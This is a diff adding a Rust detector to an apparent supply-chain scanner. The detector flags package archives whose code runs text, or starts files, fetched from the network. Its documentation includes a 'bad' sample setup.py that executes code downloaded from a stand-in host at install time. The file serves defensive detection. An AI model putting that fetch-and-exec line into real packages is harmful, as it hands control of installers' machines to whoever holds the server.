@@ -1,0 +1,82 @@
+//! Code from the network is run.
+
+use bulkhead_core::{Confidence, Severity};
+
+use super::code::{Rule, beside, quoted, say, weigh, when};
+use crate::archive::Archive;
+use crate::behaviour::{Ability, Behaviour, Sources, unasked};
+use crate::detector::Meta;
+use crate::findings::Findings;
+
+const META: Meta = Meta {
+    id: "downloaded-execution",
+    title: "code from the network is run",
+    severity: Severity::Critical,
+    confidence: Confidence::High,
+    doc: "\
+Text that was fetched is run as code, or a file that was fetched is started. What runs is then decided by whoever holds the server, today and on every
+other day; no review of the release can see it.
+
+```recipe bad
+archive demo-1.0.tar.gz
+--- demo-1.0/setup.py
+import urllib.request
+exec(urllib.request.urlopen('https://files.test/a').read())
+```
+
+```recipe good
+archive demo-1.0.tar.gz
+--- demo-1.0/setup.py
+from setuptools import setup
+setup(name='demo')
+--- demo-1.0/demo/get.py
+import urllib.request
+def get(url):
+    return urllib.request.urlopen(url).read()
+```
+
+What to do: refuse the release; if it is your own, read the line that is shown.
+",
+};
+
+/// See its `META`.
+pub(crate) static DETECTOR: Rule = Rule { meta: &META, check };
+
+fn check(archive: &Archive, findings: &mut Findings) {
+    for behaviour in &archive.code.behaviours {
+        let effect = &behaviour.effect;
+        let (severity, confidence, what) = match effect.ability {
+            Ability::Execute if effect.from.any(Sources::NETWORK) => {
+                (Severity::Critical, Confidence::High, "text from the network is run as code")
+            }
+            Ability::Spawn | Ability::LoadNative if effect.from.any(Sources::NETWORK) => {
+                (Severity::Critical, Confidence::High, "what came over the network is started")
+            }
+            Ability::Spawn
+                if effect.from.any(Sources::WRITTEN) && beside(archive, behaviour, Ability::Network, Sources::NONE) =>
+            {
+                (Severity::Critical, Confidence::High, "a file is fetched, written and started")
+            }
+            Ability::Spawn
+                if unasked(behaviour.context)
+                    && beside(archive, behaviour, Ability::WriteFile, Sources::NETWORK)
+                    && beside(archive, behaviour, Ability::Download, Sources::NONE) =>
+            {
+                (Severity::High, Confidence::Medium, "a file is fetched and written, and a program is started")
+            }
+            Ability::Download if beside_line(archive, behaviour) => {
+                (Severity::Critical, Confidence::High, "a command fetches something and is started")
+            }
+            _ => continue,
+        };
+        let weight = weigh(behaviour.context, severity, confidence);
+        say(findings, &META, behaviour, weight, format!("{what} {}: {}", when(behaviour.context), quoted(behaviour)));
+    }
+}
+
+/// Whether a program is started by the same line.
+fn beside_line(archive: &Archive, download: &Behaviour) -> bool {
+    let at = |other: &&Behaviour| other.path == download.path && other.effect.line == download.effect.line;
+    let command = download.effect.detail.as_deref().is_some_and(|detail| detail.contains(' '));
+    command && archive.code.behaviours.iter().filter(at).any(|other| other.effect.ability == Ability::Spawn)
+}
